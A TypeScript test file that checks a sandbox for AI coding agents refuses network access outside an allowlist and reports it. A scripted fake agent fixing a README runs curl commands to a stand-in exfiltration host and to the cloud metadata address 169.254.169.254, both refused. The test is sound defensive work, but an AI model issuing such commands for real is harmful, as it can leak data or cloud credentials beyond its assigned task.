import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { type EmulatedLisa, startEmulatedLisa } from "../../dev/emulated-lisa.ts";
import { createFakeClaude } from "../../dev/fake-agent.ts";
import { createHelloWorld, DELIVERY_ROUTES, HELLO_WORLD, labelBug, routesTaken } from "../support/hello-world.ts";

/** An HTTP service on the host's loopback, counting who reaches it: what a gate must not. */
async function hostService() {
  let hits = 0;
  const server = createServer((_request, response) => {
    hits += 1;
    response.end("host service\n");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { port: (server.address() as AddressInfo).port, hits: () => hits, close: () => server.close() };
}

let service: Awaited<ReturnType<typeof hostService>> | undefined;
let env: EmulatedLisa | undefined;
afterEach(async () => {
  service?.close();
  await env?.stop();
  env = undefined;
});

describe("the network of agents and gates", () => {
  it("refuses what the agent reaches for beyond its allowlist, says so in the review package, and gives gates none", async () => {
    service = await hostService();
    const agent = createFakeClaude([
      {
        write: { "README.md": "# Hello World\n" },
        run: [
          // Through Lisa's proxy (the curl in the sandbox reads its variables): refused and counted.
          "curl -s -m 5 https://exfil.example/upload -o /dev/null || true",
          "curl -s -m 5 http://169.254.169.254/latest/meta-data/ -o /dev/null || true",
        ],
        manifest: { title: "Fix the README heading", what: "Spells World correctly.", testing: "Checked by eye." },
        result: "Fixed.",
      },
    ]);
    // The second gate passes only if the host's service cannot be reached from the gate.
    const gates = `gates:\n  - grep -q 'Hello World' README.md\n  - "! curl -s -m 3 http://127.0.0.1:${service.port}/"\n`;
    env = await startEmulatedLisa({ claudeBinary: agent.binary });
    await createHelloWorld(env.github, `label: bug\nsandbox:\n  allow_hosts: [registry.npmjs.org]\n${gates}`);

    await labelBug(env);

    expect(env.github.pulls(HELLO_WORLD)).toHaveLength(1);
    const [pull] = env.github.pulls(HELLO_WORLD);
    expect(service.hits()).toBe(0);
    const pack = env.github
      .comments(HELLO_WORLD, pull?.number ?? 0)
      .find((c) => c.body.includes("<!-- lisa:pass run=1 pass=1 "))?.body;
    expect(pack).toContain(
      "**Network:** 2 connections refused by Lisa's sandbox (hosts `exfil.example:443`, `169.254.169.254:80`)",
    );
    // The agent was told the proxy, not the host's own.
    expect(agent.calls()[0]?.env.HTTPS_PROXY).toBe("http://127.0.0.1:3128");
    expect(DELIVERY_ROUTES).toEqual(expect.arrayContaining(routesTaken(env.github)));
  });
});
